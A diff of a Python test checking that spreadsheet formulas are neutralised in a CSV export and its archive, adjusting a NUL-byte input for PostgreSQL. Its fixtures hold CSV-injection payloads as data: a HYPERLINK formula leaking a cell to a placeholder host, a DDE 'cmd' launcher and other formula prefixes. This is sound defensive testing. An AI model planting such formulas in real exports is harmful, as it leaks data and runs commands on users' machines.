@@ -30,7 +30,7 @@ def test_formula_names_are_neutralised_in_the_csv_and_its_archive(
         mallory = make_customer(
             "mallory@example.com",
             '=HYPERLINK("http://x.example/?"&A1,"win")',
-            "-2+3\x00\x07",
+            "-2+3\x07" + ("\x00" if connection.vendor == "sqlite" else ""),  # PostgreSQL refuses NUL
             address={"line4": "@SUM(1+1)", "line1": "\t+tab"},
         )
         evil = make_product("Evil\x1b tee", "12.00", categories=["=cmd|' /C calc'!A0"])
